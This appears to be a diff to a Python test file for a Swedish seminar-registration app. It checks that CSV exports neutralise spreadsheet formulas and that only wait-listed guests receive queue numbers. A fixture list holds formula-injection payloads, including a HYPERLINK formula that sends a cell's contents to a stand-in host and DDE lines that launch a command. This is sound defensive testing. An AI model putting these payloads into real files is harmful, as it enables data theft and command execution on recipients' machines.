@@ -15,6 +15,7 @@ from office.core.extensions import db
 from seminars import registration
 from tests.conftest import AuthActions
 from tests.feature_world import add_booking_features, add_features
+from tests.seminar_factories import make_seminar
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
@@ -71,12 +72,26 @@ def seminar_world(app, create_agency, create_user, create_site, create_resource)
 def test_seminar_registrations_are_safe_to_open(seminar_world):
     auth, features = seminar_world
     rows = _read(auth.client.get(f"/seminars/{features.seminar_id}/export/registrations.csv"))
-    assert rows[0] == ["Namn", "Aktör eller organisation", "E-postadress", "Status", "Plats i kön",
+    assert rows[0] == ["Namn", "Aktör eller organisation", "E-postadress", "Status", "Nummer i kön",
                        "Specialkost", "Behov av tillgänglighetsanpassning", "Deltar", "Närvarande"]
     assert len(rows) == 1 + 1 + len(HOSTILE) + 1  # header, staff, hostile guests, the world's guest
     assert _unsafe(rows) == []
     names = [row[0] for row in rows]
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")" in names and "'-2+3" in names
+
+
+def test_only_the_waiting_list_has_numbers_in_line(app, auth, create_user):
+    coordinator = create_user(role=Role.coordinator)
+    seminar = make_seminar(coordinator, capacity=2)
+    for name in ("Anna", "Bo", "Cecilia", "David"):
+        registration.register_guest(seminar.id, name=name, organisation="SSAB",
+                                    email=f"{name.lower()}@example.org")
+    registration.cancel_registration(registration.waiting_list(seminar.id)[0])  # Cecilia leaves the line
+    db.session.commit()
+    auth.login(coordinator)
+    rows = _read(auth.client.get(f"/seminars/{seminar.id}/export/registrations.csv"))
+    assert [(row[0], row[3], row[4]) for row in rows[1:]] == [
+        ("Anna", "Bekräftad", ""), ("Bo", "Bekräftad", ""), ("David", "På väntelistan", "1")]
 
 
 def test_seminar_attendance_and_evaluations_are_safe_to_open(seminar_world):
